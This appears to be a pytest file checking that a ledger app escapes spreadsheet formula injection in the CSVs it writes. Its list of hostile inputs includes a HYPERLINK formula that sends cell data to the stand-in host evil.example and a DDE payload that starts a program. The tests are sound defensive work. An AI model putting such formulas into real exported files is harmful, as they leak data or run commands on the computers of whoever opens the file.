"""CSV formula injection: every CSV the app writes neutralises cells a spreadsheet would run
(OWASP), through one helper; numbers stay numbers; the bills CSV round-trips exactly."""

from decimal import Decimal

import pytest

from ledger.csv_cells import csv_cell, csv_cell_read

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),  # not a number as written here? it is: see below
        ("-cmd", "'-cmd"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'x", "''x"),
        ("Plain text", "Plain text"),
        ("", ""),
        (None, ""),
        (Decimal("-12.50"), "-12.50"),
        ("-12.50", "-12.50"),
        ("12", "12"),
        (7, "7"),
        ("2024-01-02", "2024-01-02"),
    ],
)
def test_csv_cell(value, written):
    if value == "+1":
        written = "+1"  # a signed number stays a number
    assert csv_cell(value) == written


@pytest.mark.parametrize("text", [*HOSTILE, "plain", "'plain", "''x", "-12.50"])
def test_what_is_written_reads_back(text):
    assert csv_cell_read(csv_cell(text)) == text
